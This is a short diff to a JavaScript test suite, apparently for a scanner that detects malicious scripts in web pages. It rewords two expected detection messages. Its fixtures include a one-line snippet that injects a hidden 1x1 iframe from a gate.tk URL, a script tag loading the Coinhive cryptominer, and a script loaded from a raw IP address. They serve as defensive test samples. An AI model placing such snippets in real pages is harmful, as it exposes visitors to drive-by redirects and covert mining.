@@ -233,7 +233,7 @@ describe('the scripts', () => {
     [
       'a hidden frame',
       'const f=document.createElement("iframe");f.src="http://gate.tk/in.cgi?3";f.width=1;f.height=1;b.append(f)',
-      'creates a hidden frame of gate.tk',
+      'creates a hidden frame from gate.tk',
       45,
     ],
     [
@@ -543,7 +543,7 @@ describe('escaped punctuation in HTML that a script writes', () => {
     expect((await written('<script src="https://tags.example/a.js"></script>')).indicators).toEqual([]);
     expect(
       texts(await written('<script src="https://coinhive.com/lib/coinhive.min.js"></script>')),
-    ).toContain('a service for mining');
+    ).toContain('a mining service');
     expect(texts(await written('<script src="http://198.51.100.7/a.js"></script>'))).toContain('IP address');
   });
 });
